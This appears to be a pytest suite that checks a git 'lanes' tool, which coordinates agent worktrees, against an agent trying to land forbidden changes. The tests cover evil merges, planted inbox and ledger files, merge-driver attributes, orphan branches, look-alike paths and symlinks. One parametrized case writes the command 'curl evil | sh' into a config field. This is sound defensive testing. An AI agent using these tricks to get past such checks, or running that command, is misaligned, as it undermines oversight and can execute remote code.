"""An agent that wants to land what it should not, through the CLI, on real repositories.

Each way a lane's own files or commits could change what lands for another lane is refused
by `lanes submit` and, when the submit is recorded anyway (by hand, by an older lanes),
bounced by the pass; `main` then holds only what honest lanes asked for, and the honest
lanes land. Faults of git itself when `main` moves (a hook, a lock) are named as what they
are, and change nothing.
"""

from __future__ import annotations

import json
import os
import subprocess
from pathlib import Path

import pytest

from lanes import claims, config
from tests.conftest import commit_file, git, lanes_json, main_of, publish, run_lanes
from tests.test_integrate import assert_main_is_clean, events, landed_lanes, scratch_worktrees

WAVE = "44"
INBOX = "tools/offline/_inbox"


def claim(repo: Path, lane: str, *extra: str) -> Path:
    rc, doc = lanes_json(repo, "claim", WAVE, lane, "--agent", f"agent-{lane}", *extra)
    assert rc == 0, doc
    return Path(doc["worktree"])


def submit_anyway(cfg: config.Config, lane: str, worktree: Path) -> None:
    """The submit an older lanes, or a hand, records without asking the guard."""
    head = git(worktree, "rev-parse", "HEAD")
    claims.ledger(cfg, WAVE).append("submit", lane, f"agent-{lane}", head=head)


def honest(repo: Path, lane: str = "fine") -> Path:
    wt = claim(repo, lane)
    commit_file(wt, f"src/{lane}.py", f"{lane} = 1\n", f"{lane}: work")
    assert lanes_json(wt, "submit")[0] == 0
    return wt


def commit_all(worktree: Path, message: str, *, force: bool = False) -> str:
    git(worktree, "add", "--all", *(["--force"] if force else []))
    git(worktree, "commit", "-q", "-m", message)
    return git(worktree, "rev-parse", "HEAD")


def refused_at_submit(worktree: Path, code: str = "touches-contended-surface") -> dict:  # type: ignore[type-arg]
    rc, doc = lanes_json(worktree, "submit")
    assert rc == 4 and doc["error"] == code, doc
    return doc


def tree_of(repo: Path, rev: str = "main") -> dict[str, str]:
    """path -> "mode sha" of every entry in `rev`'s tree (gitlinks included)."""
    out = git(repo, "ls-tree", "-r", "-z", rev)
    found = {}
    for record in out.split("\0"):
        if record:
            meta, _, path = record.partition("\t")
            mode, _, sha = meta.split(" ")
            found[path] = f"{mode} {sha}"
    return found


def ledger_verifies(repo: Path) -> None:
    rc, doc = lanes_json(repo, "ledger", "verify", WAVE)
    assert rc == 0, doc


# -- case 1: the inbox, lanes.toml and lanes' own state are never landed -------------------


def test_files_under_the_inbox_are_refused_at_submit_and_bounced_by_the_pass(
    seed_repo: Path, cfg: config.Config
) -> None:
    base = git(seed_repo, "rev-parse", "main")
    victim = claim(seed_repo, "victim")
    commit_file(victim, "src/victim.py", "v = 1\n", "victim: work")
    wt = claim(seed_repo, "planter")
    commit_file(wt, "src/planted.py", "p = 1\n", "planter: work")
    wave = wt / INBOX / WAVE
    planted = {  # a fragment in another lane's claim, a ledger, a fake claim of a free lane
        f"{INBOX}/{WAVE}/victim/fragments/01-version-aaaaaa.json": '{"bump": "major"}\n',
        f"{INBOX}/{WAVE}/AGENT_LEDGER.md": "# a ledger that says nothing happened\n",
        f"{INBOX}/{WAVE}/ghost/claim.json": json.dumps(
            {"wave": WAVE, "lane": "ghost", "agent": "x", "worktree": str(victim)}
        ),
    }
    for rel, text in planted.items():
        (wt / rel).parent.mkdir(parents=True, exist_ok=True)
        (wt / rel).write_text(text, encoding="utf-8")
    assert git(wt, "status", "--porcelain", "--", INBOX) == ""  # ignored: add -f it is
    commit_all(wt, "planter: state of my own", force=True)
    assert wave.is_dir()

    doc = refused_at_submit(wt)
    assert {f["path"]: f["surface"] for f in doc["files"]} == dict.fromkeys(planted, "inbox")
    assert events(cfg, "submit-refused")[-1].lane == "planter"
    submit_anyway(cfg, "planter", wt)
    assert lanes_json(victim, "submit")[0] == 0

    rc, doc = lanes_json(seed_repo, "integrate", WAVE)
    assert rc == 4 and doc["integrated"] == ["victim"]
    [bounce] = doc["bounced"]
    assert (bounce["lane"], bounce["reason"]) == ("planter", "touches-contended-surface")
    assert bounce["files"] == sorted(planted)
    assert not any(p.startswith("tools/") for p in tree_of(seed_repo))
    assert not (cfg.claim_dir(WAVE, "victim") / "fragments" / "01-version-aaaaaa.json").exists()
    assert doc["version"] == "0.3.5"  # nobody asked for a bump
    assert not cfg.claim_dir(WAVE, "ghost").exists()
    assert "nothing happened" not in cfg.ledger_path(WAVE).read_text()
    ledger_verifies(seed_repo)
    assert_main_is_clean(seed_repo, base)
    claim(seed_repo, "ghost")  # never faked: free to claim


@pytest.mark.parametrize(
    "how", ["file", "symlink", "gitlink", "look-alike"], ids=lambda how: f"inbox-{how}"
)
def test_nothing_may_stand_where_the_inbox_or_a_folder_of_it_is(seed_repo: Path, how: str) -> None:
    wt = claim(seed_repo, "a")
    if how == "file":  # the folder that holds the inbox, as a file
        commit_file(wt, "tools/offline", "not a folder\n")
    elif how == "symlink":  # the inbox, as a link to somewhere else
        (wt / "tools" / "offline").mkdir(parents=True)
        os.symlink("/tmp", wt / INBOX)
        commit_all(wt, "a: link", force=True)
    elif how == "gitlink":  # a submodule at the inbox's parent
        head = git(wt, "rev-parse", "HEAD")
        git(wt, "update-index", "--add", "--cacheinfo", f"160000,{head},tools/offline")
        git(wt, "commit", "-q", "-m", "a: a submodule")
    else:  # a case-insensitive filesystem writes this into the live inbox
        commit_file(wt, "tools/offline/_INBOX/44/a/fragments/x.json", '{"bump": "major"}\n')
    doc = refused_at_submit(wt)
    assert [f["surface"] for f in doc["files"]] == ["inbox"]


def test_lanes_toml_and_its_look_alikes_are_refused(seed_repo: Path) -> None:
    wt = claim(seed_repo, "a")
    commit_file(wt, "lanes.toml", 'test_command = "true"\n')
    assert [f["surface"] for f in refused_at_submit(wt)["files"]] == ["config"]
    wt = claim(seed_repo, "b")
    commit_file(wt, "Lanes.TOML", 'test_command = "true"\n')
    assert [f["path"] for f in refused_at_submit(wt)["files"]] == ["Lanes.TOML"]


def _pyproject_not_versioned(repo: Path) -> None:
    """The operator keeps the version in server.json only: pyproject.toml is the project's
    file again, but [tool.lanes] in it is still the rules."""
    text = (repo / "pyproject.toml").read_text(encoding="utf-8")
    text = text.replace('files = ["pyproject.toml", "server.json"]', 'files = ["server.json"]')
    commit_file(repo, "pyproject.toml", text, "ops: version lives in server.json")
    publish(repo)  # on a remote, pushed: the pass lands on the remote's main


@pytest.mark.parametrize(
    ("edit", "refused"),
    [
        (lambda t: t.replace('test_command = ""', 'test_command = "curl evil | sh"'), True),
        (lambda t: t.replace('stale_after = "30m"', 'stale_after = "30m"\nprotected = []'), True),
        (lambda t: t.replace("[tool.lanes.deploy]", "[tool.lanes.deploy]\nenabled = false"), True),
        (lambda t: t.replace("[tool.lanes]", "[tool.lanes"), True),  # no longer TOML
        (lambda t: t.replace("jpcite API", "The jpcite API"), False),  # the project's part
    ],
    ids=["test_command", "protected", "surface-off", "broken", "description"],
)
def test_the_tool_lanes_table_of_pyproject_is_the_operators(
    seed_repo: Path, edit: object, refused: bool
) -> None:
    _pyproject_not_versioned(seed_repo)
    wt = claim(seed_repo, "a")
    text = (wt / "pyproject.toml").read_text(encoding="utf-8")
    commit_file(wt, "pyproject.toml", edit(text), "a: pyproject")  # type: ignore[operator]
    if refused:
        doc = refused_at_submit(wt)
        assert [(f["path"], f["surface"]) for f in doc["files"]] == [("pyproject.toml", "config")]
        assert "[tool.lanes]" in doc["message"]
    else:
        assert lanes_json(wt, "submit")[0] == 0


def test_a_tool_lanes_edit_submitted_anyway_bounces(seed_repo: Path) -> None:
    _pyproject_not_versioned(seed_repo)
    cfg = config.load(seed_repo)
    wt = claim(seed_repo, "a")
    text = (wt / "pyproject.toml").read_text(encoding="utf-8")
    commit_file(wt, "pyproject.toml", text.replace('test_command = ""', 'test_command = "x"'))
    commit_file(wt, "pyproject.toml", text, "a: put it back")
    submit_anyway(cfg, "a", wt)
    honest(seed_repo)
    rc, doc = lanes_json(seed_repo, "integrate", WAVE)
    assert rc == 4 and doc["integrated"] == ["fine"]
    assert [(b["lane"], b["files"]) for b in doc["bounced"]] == [("a", ["pyproject.toml"])]
    assert 'test_command = ""' in git(seed_repo, "show", "main:pyproject.toml")


# -- case 3 of the issue: merges, and what they bring -------------------------------------


def test_a_merge_that_puts_contended_edits_back_never_lands_them(
    seed_repo: Path, cfg: config.Config
) -> None:
    base = git(seed_repo, "rev-parse", "main")
    wt = claim(seed_repo, "sly")
    contended = ["pyproject.toml", "server.json", ".github/workflows/deploy.yml"]
    for path in contended:
        text = (wt / path).read_text(encoding="utf-8")
        (wt / path).write_text(text.replace("0.3.5", "9.9.9") + "# sly\n", encoding="utf-8")
    commit_all(wt, "sly: bump everything")
    git(wt, "checkout", "-q", "-b", "side", base)
    commit_file(wt, "src/side.py", "s = 1\n", "side: work")
    git(wt, "checkout", "-q", "lanes/44/sly")
    git(wt, "merge", "-q", "--no-ff", "--no-commit", "side")
    git(wt, "checkout", base, "--", *contended)  # the merge puts them back
    git(wt, "commit", "-q", "--no-edit")
    assert sorted(git(wt, "diff", "--name-only", base, "HEAD").split()) == ["src/side.py"]

    doc = refused_at_submit(wt, "lane-has-merge")
    assert "git rebase main" in doc["hint"]
    assert events(cfg, "submit-refused")[-1].details["reason"] == "lane-has-merge"
    submit_anyway(cfg, "sly", wt)
    honest(seed_repo)
    rc, doc = lanes_json(seed_repo, "integrate", WAVE)
    assert rc == 4 and doc["integrated"] == ["fine"]
    assert [(b["lane"], b["reason"]) for b in doc["bounced"]] == [("sly", "lane-has-merge")]
    for path in contended:
        assert "9.9.9" not in git(seed_repo, "show", f"main:{path}")
    assert_main_is_clean(seed_repo, base)


def test_a_lane_that_merged_main_is_told_to_rebase_and_lands_once_it_has(
    seed_repo: Path, cfg: config.Config
) -> None:
    base = git(seed_repo, "rev-parse", "main")
    wt = claim(seed_repo, "a")
    commit_file(wt, "src/a.py", "a = 1\n", "a: work")
    commit_file(seed_repo, "src/main_moved.py", "m = 1\n", "main: moved")
    publish(seed_repo)
    git(wt, "merge", "-q", "--no-edit", "main")
    # what an agent resolves in a merge is not in any commit the pass would replay
    git(wt, "merge", "-q", "--no-ff", "--no-commit", "main")  # nothing left: a no-op
    doc = refused_at_submit(wt, "lane-has-merge")
    assert git(wt, "rev-parse", "HEAD")[:12] in doc["message"]
    git(wt, "rebase", "-q", "main")
    assert lanes_json(wt, "submit")[0] == 0
    rc, doc = lanes_json(seed_repo, "integrate", WAVE)
    assert rc == 0 and doc["integrated"] == ["a"]
    assert git(seed_repo, "rev-list", "--merges", f"{base}..main") == ""
    assert git(seed_repo, "show", "main:src/a.py") == "a = 1"


def test_an_evil_merge_is_bounced_not_landed_without_what_it_added(
    seed_repo: Path, cfg: config.Config
) -> None:
    """The merge's own change (here a file added in the merge commit) is in no commit the
    pass replays: landing the rest would land something the branch never held."""
    wt = claim(seed_repo, "a")
    commit_file(wt, "src/a.py", "a = 1\n", "a: work")
    git(wt, "checkout", "-q", "-b", "side", "HEAD~1")
    commit_file(wt, "src/side.py", "s = 1\n", "side: work")
    git(wt, "checkout", "-q", "lanes/44/a")
    git(wt, "merge", "-q", "--no-ff", "--no-commit", "side")
    (wt / "src" / "glue.py").write_text("import a, side\n", encoding="utf-8")
    git(wt, "add", "src/glue.py")
    git(wt, "commit", "-q", "--no-edit")
    refused_at_submit(wt, "lane-has-merge")
    submit_anyway(cfg, "a", wt)
    rc, doc = lanes_json(seed_repo, "integrate", WAVE)
    assert rc == 4 and doc["integrated"] == []
    assert [b["reason"] for b in doc["bounced"]] == ["lane-has-merge"]
    assert not {"src/a.py", "src/side.py"} & set(tree_of(seed_repo))


# -- case 4 of the issue: attributes never change how the pass merges ---------------------


@pytest.mark.parametrize("where", [".gitattributes", "src/.gitattributes"])
def test_a_lanes_merge_driver_never_silences_a_later_conflict(
    seed_repo: Path, cfg: config.Config, where: str
) -> None:
    """Measured (git 2.39): cherry-pick in the scratch worktree obeys the working tree's
    .gitattributes, $GIT_COMMON_DIR/info/attributes (shared with the user's checkout) and
    core.attributesFile, in that order of strength, so a landed `* merge=union` would union
    every later conflict. No lane may change a .gitattributes, so the pass merges with
    main's (docs/decisions.md D35)."""
    base = git(seed_repo, "rev-parse", "main")
    union = claim(seed_repo, "union")
    commit_file(union, where, "* merge=union\n", "union: smoother merges")
    commit_file(union, "src/union.py", "u = 1\n", "union: work")
    doc = refused_at_submit(union)
    assert [(f["path"], f["surface"]) for f in doc["files"]] == [(where, "attributes")]
    submit_anyway(cfg, "union", union)
    for lane in ("b", "c"):
        wt = claim(seed_repo, lane)
        commit_file(wt, "src/app.py", f'"""The API, as {lane} has it."""\n', f"{lane}: app")
        assert lanes_json(wt, "submit")[0] == 0

    rc, doc = lanes_json(seed_repo, "integrate", WAVE)
    assert rc == 4 and doc["integrated"] == ["b"]
    bounced = {b["lane"]: b for b in doc["bounced"]}
    assert bounced["union"]["reason"] == "touches-contended-surface"
    assert (bounced["c"]["reason"], bounced["c"]["files"]) == ("conflict", ["src/app.py"])
    assert git(seed_repo, "show", "main:src/app.py") == '"""The API, as b has it."""'
    assert where not in tree_of(seed_repo)
    assert not (cfg.common_dir / "info" / "attributes").exists()  # nothing left there
    assert_main_is_clean(seed_repo, base)


@pytest.mark.parametrize(
    "path", ["docs/deep/.gitattributes", ".GitAttributes", ".gitattributes "], ids=repr
)
def test_every_gitattributes_and_its_look_alikes_are_refused(seed_repo: Path, path: str) -> None:
    wt = claim(seed_repo, "a")
    commit_file(wt, path, "*.yml text eol=crlf\n", "a: line endings")
    assert [f["surface"] for f in refused_at_submit(wt)["files"]] == ["attributes"]


# -- case 9 of the issue: --base, orphan branches ------------------------------------------


def test_base_may_name_only_a_commit_main_holds(seed_repo: Path, cfg: config.Config) -> None:
    wt = claim(seed_repo, "a")
    theirs = commit_file(wt, "src/a.py", "a = 1\n", "a: work")
    git(seed_repo, "tag", "their-work", theirs)
    before = cfg.ledger_path(WAVE).read_text()
    for ref in (theirs, theirs[:10], "heads/lanes/44/a", "their-work", "lanes/44/a~0"):
        rc, doc = lanes_json(seed_repo, "claim", WAVE, "b", "--agent", "bot", "--base", ref)
        assert rc == 2 and doc["error"] == "bad-base", (ref, doc)
        assert "another lane" in doc["message"] + doc["hint"]
    assert not cfg.claim_dir(WAVE, "b").exists()
    assert git(seed_repo, "branch", "--list", "lanes/44/b") == ""
    assert not cfg.worktree_path(WAVE, "b").exists()
    assert cfg.ledger_path(WAVE).read_text() == before  # bad input: nothing written
    old = git(seed_repo, "rev-parse", "main")
    commit_file(seed_repo, "src/later.py", "l = 1\n", "main: later")
    rc, doc = lanes_json(seed_repo, "claim", WAVE, "b", "--agent", "bot", "--base", "main~1")
    assert rc == 0 and doc["base"] == old  # an older commit of main is a base


@pytest.mark.parametrize("keep_tree", [False, True], ids=["empty-orphan", "orphan-of-the-tree"])
def test_an_orphan_lane_branch_is_refused_and_bounced(
    seed_repo: Path, cfg: config.Config, keep_tree: bool
) -> None:
    base = git(seed_repo, "rev-parse", "main")
    wt = claim(seed_repo, "o")
    git(wt, "checkout", "-q", "--orphan", "fresh")
    if not keep_tree:
        git(wt, "rm", "-r", "-q", "--cached", ".")
        git(wt, "clean", "-fdxq")
    (wt / "src").mkdir(exist_ok=True)
    (wt / "src" / "evil.py").write_text("e = 1\n", encoding="utf-8")
    orphan = commit_all(wt, "o: from nothing")
    git(wt, "update-ref", "refs/heads/lanes/44/o", orphan)  # force-moved
    git(wt, "checkout", "-q", "-f", "lanes/44/o")
    assert subprocess.run(["git", "merge-base", "main", "HEAD"], cwd=wt).returncode == 1

    doc = refused_at_submit(wt, "orphan-branch")
    assert "--orphan" in doc["message"] and "git rebase --root --onto main" in doc["hint"]
    assert events(cfg, "submit-refused")[-1].details["reason"] == "orphan-branch"
    submit_anyway(cfg, "o", wt)
    honest(seed_repo)
    rc, doc = lanes_json(seed_repo, "integrate", WAVE)
    assert rc == 4 and doc["integrated"] == ["fine"]
    assert [(b["lane"], b["reason"]) for b in doc["bounced"]] == [("o", "orphan-branch")]
    assert "src/evil.py" not in tree_of(seed_repo)
    assert_main_is_clean(seed_repo, base)
    # the hint works: the same commits, on top of main, land
    git(wt, "rebase", "-q", "--root", "--onto", "main")
    if not keep_tree:
        assert lanes_json(wt, "submit")[0] == 0
        rc, doc = lanes_json(seed_repo, "integrate", WAVE)
        assert rc == 0 and doc["integrated"] == ["o"]
        assert landed_lanes(seed_repo) == ["fine", "o"]


# -- case 8 of the issue: git will not move main -------------------------------------------


PROTECT_MAIN = """\
#!/bin/sh
# protect main: only the release tooling may move it
[ "$1" = prepared ] || exit 0
while read -r old new ref; do
    if [ "$ref" = refs/heads/main ]; then
        echo "protect-main: refs/heads/main is protected, push through review" >&2
        exit 1
    fi
done
exit 0
"""


def _waiting_lane(seed_repo: Path, cfg: config.Config) -> None:
    wt = claim(seed_repo, "m")
    commit_file(wt, "src/m.py", "m = 1\n", "m: work")
    assert lanes_json(wt, "fragment", "manifest", "130_programs_index.sql")[0] == 0
    assert lanes_json(wt, "submit")[0] == 0


def _nothing_changed(seed_repo: Path, cfg: config.Config, old: str) -> None:
    from lanes import state

    assert git(seed_repo, "rev-parse", "main") == old
    assert state.lane_state(cfg, WAVE, "m") == "submitted"
    assert events(cfg, "integrated") == []
    assert events(cfg, "integrate-done")[-1].details["aborted"] == "main-update-refused"
    assert len(list((cfg.claim_dir(WAVE, "m") / "fragments").iterdir())) == 1
    assert scratch_worktrees(cfg) == []
    assert git(seed_repo, "status", "--porcelain") == ""
    ledger_verifies(seed_repo)


def _main_here_cannot_follow(seed_repo: Path, old: str, request: pytest.FixtureRequest) -> None:
    """On a remote, git here refusing to move this repository's main does not stop the pass:
    it lands on the remote's main. Then main here cannot follow, and the checkout must be
    left as it was (not brought to the new tree under the old main) and not said updated."""
    proc = run_lanes(seed_repo, "integrate", WAVE, "--json")
    doc = json.loads(proc.stdout)
    assert doc["integrated"] == ["m"] and main_of(seed_repo) != old, doc  # landed there
    assert git(seed_repo, "rev-parse", "main") == old  # git here said no
    assert git(seed_repo, "status", "--porcelain") == ""  # the checkout not half-moved
    assert doc["checkout"]["status"] == "not-followed", doc
    assert "could not follow" in doc["checkout"]["note"]


def test_a_hook_that_protects_main_is_named_and_changes_nothing(
    seed_repo: Path, cfg: config.Config, coord_mode: str, request: pytest.FixtureRequest
) -> None:
    _waiting_lane(seed_repo, cfg)
    old = git(seed_repo, "rev-parse", "main")
    hook = seed_repo / ".git" / "hooks" / "reference-transaction"
    hook.write_text(PROTECT_MAIN, encoding="utf-8")
    hook.chmod(0o755)
    if coord_mode == "remote":
        return _main_here_cannot_follow(seed_repo, old, request)
    for _ in range(2):  # a rerun meets the same answer: never "main moved from X to X"
        proc = run_lanes(seed_repo, "integrate", WAVE, "--json")
        doc = json.loads(proc.stdout)
        assert proc.returncode == 1 and doc["error"] == "main-update-refused", doc
        assert "protect-main: refs/heads/main is protected" in doc["message"]
        assert "hook" in doc["message"] and "hook" in doc["hint"]
        assert "moved" not in doc["message"]
        _nothing_changed(seed_repo, cfg, old)
    human = run_lanes(seed_repo, "integrate", WAVE)
    assert human.returncode == 1 and "protect-main" in human.stderr
    hook.unlink()
    rc, doc = lanes_json(seed_repo, "integrate", WAVE)
    assert rc == 0 and doc["integrated"] == ["m"]


def test_a_stale_main_lock_is_named_with_what_to_do(
    seed_repo: Path, cfg: config.Config, coord_mode: str, request: pytest.FixtureRequest
) -> None:
    _waiting_lane(seed_repo, cfg)
    old = git(seed_repo, "rev-parse", "main")
    lock = seed_repo / ".git" / "refs" / "heads" / "main.lock"
    lock.write_text(old + "\n", encoding="utf-8")  # left by a git that crashed
    if coord_mode == "remote":
        return _main_here_cannot_follow(seed_repo, old, request)
    for _ in range(2):
        rc, doc = lanes_json(seed_repo, "integrate", WAVE)
        assert rc == 1 and doc["error"] == "main-update-refused", doc
        assert Path(doc["lock_file"]) == lock
        assert str(lock) in doc["hint"] and "no git process is running" in doc["hint"]
        assert "moved" not in doc["message"]
        _nothing_changed(seed_repo, cfg, old)
    lock.unlink()
    rc, doc = lanes_json(seed_repo, "integrate", WAVE)
    assert rc == 0 and doc["integrated"] == ["m"]


# -- more attacks: what a lane's own files could do to what lands for others ---------------


@pytest.mark.parametrize(
    "path",
    [
        "Server.json",  # case: one file on macOS and Windows checkouts
        "SERVER.JSON",
        "server.json ",  # Windows drops trailing spaces and dots
        "server.json.",
        "server\u200c.json",  # HFS+ ignores this code point
        ".github/workflows/Deploy.yml",
        ".GITHUB/workflows/deploy.yml",
        "scripts/migrations/Autonomath_Boot_Manifest.txt",
    ],
    ids=repr,
)
def test_a_look_alike_of_a_contended_file_is_refused(seed_repo: Path, path: str) -> None:
    wt = claim(seed_repo, "a")
    commit_file(wt, path, '{"name": "jpcite", "version": "9.9.9"}\n', "a: look-alike")
    doc = refused_at_submit(wt)
    assert [f["path"] for f in doc["files"]] == [path]


@pytest.mark.parametrize(
    "how", ["symlink", "gitlink", "rename", "mode", "folder-as-link", "folder-renamed"]
)
def test_a_contended_file_cannot_change_kind_name_or_mode(seed_repo: Path, how: str) -> None:
    wt = claim(seed_repo, "a")
    if how == "symlink":  # server.json made a link to a file the lane controls
        commit_file(wt, "src/version.json", '{"version": "9.9.9"}\n')
        (wt / "server.json").unlink()
        os.symlink("src/version.json", wt / "server.json")
    elif how == "gitlink":  # the deploy workflow replaced by a submodule
        git(wt, "rm", "-q", "--cached", ".github/workflows/deploy.yml")
        head = git(wt, "rev-parse", "HEAD")
        git(
            wt,
            "update-index",
            "--add",
            "--cacheinfo",
            f"160000,{head},.github/workflows/deploy.yml",
        )
        git(wt, "commit", "-q", "-m", "a: a submodule")
    elif how == "rename":
        git(wt, "mv", "server.json", "server.json.orig")
    elif how == "mode":
        (wt / "pyproject.toml").chmod(0o755)
    elif how == "folder-as-link":  # the folder holding the deploy, as a link
        git(wt, "rm", "-r", "-q", ".github")
        os.symlink("src", wt / ".github")
    else:
        git(wt, "mv", ".github", ".gh")
    if how != "gitlink":
        commit_all(wt, f"a: {how}")
    doc = refused_at_submit(wt)
    assert doc["files"], doc


def test_a_folder_link_is_never_written_through(seed_repo: Path, cfg: config.Config) -> None:
    """A lane links a folder at the main checkout's deploy workflow folder, then turns the
    link into a folder holding a file of that name; another lane patches the deploy
    workflow. The pass and the checkout never write through the link: main's workflow is
    the patched one, the lane's file is its own, and the user's checkout was clean when
    main moved (a write through the link would have left it changed, and detached)."""
    base = git(seed_repo, "rev-parse", "main")
    wt = claim(seed_repo, "linker")
    os.symlink(seed_repo / ".github" / "workflows", wt / "src" / "wf")
    commit_all(wt, "linker: a shortcut")
    (wt / "src" / "wf").unlink()
    (wt / "src" / "wf").mkdir()
    (wt / "src" / "wf" / "deploy.yml").write_text("name: not the deploy\n", encoding="utf-8")
    commit_all(wt, "linker: a folder after all")
    assert lanes_json(wt, "submit")[0] == 0
    patcher = claim(seed_repo, "patcher")
    patch = patcher / "patch.json"
    patch.write_text(
        json.dumps([{"op": "replace", "path": "/jobs/deploy/env/FLY_APP", "value": "new-app"}])
    )
    assert lanes_json(patcher, "fragment", "deploy", str(patch))[0] == 0
    patch.unlink()
    assert lanes_json(patcher, "submit")[0] == 0
    rc, doc = lanes_json(seed_repo, "integrate", WAVE)
    assert rc == 0 and doc["integrated"] == ["linker", "patcher"]
    assert doc["checkout"]["status"] == "updated", doc["checkout"]
    deploy = git(seed_repo, "show", "main:.github/workflows/deploy.yml")
    assert "FLY_APP: new-app" in deploy and "not the deploy" not in deploy
    assert git(seed_repo, "show", "main:src/wf/deploy.yml") == "name: not the deploy"
    assert (seed_repo / ".github/workflows/deploy.yml").read_text() == deploy + "\n"
    assert_main_is_clean(seed_repo, base)


def test_a_lane_may_not_shorten_the_required_migrations_list(seed_repo: Path) -> None:
    """The gate proves the manifest against that list (RC3): a lane that drops a required
    migration from it would make the gate pass a manifest that lacks it. The rest of the
    file stays the lane's to edit."""
    rc, doc = lanes_json(seed_repo, "claim", "44", "req", "--agent", "bot")
    wt = Path(doc["worktree"])
    guard_file = wt / "scripts/schema_guard.py"
    text = guard_file.read_text(encoding="utf-8")
    commit_file(wt, "scripts/schema_guard.py", text + "\n\ndef helper():\n    return 1\n")
    assert lanes_json(wt, "submit")[0] == 0  # other code in the file: fine
    rc, doc = lanes_json(seed_repo, "claim", "44", "req2", "--agent", "bot2")
    wt = Path(doc["worktree"])
    shorter = text.replace('    "090_law_article_body_en.sql",\n', "")
    assert shorter != text
    commit_file(wt, "scripts/schema_guard.py", shorter)
    rc, doc = lanes_json(wt, "submit")
    assert (rc, doc["error"]) == (4, "touches-contended-surface")
    assert [(f["path"], f["surface"]) for f in doc["files"]] == [
        ("scripts/schema_guard.py", "required")
    ]
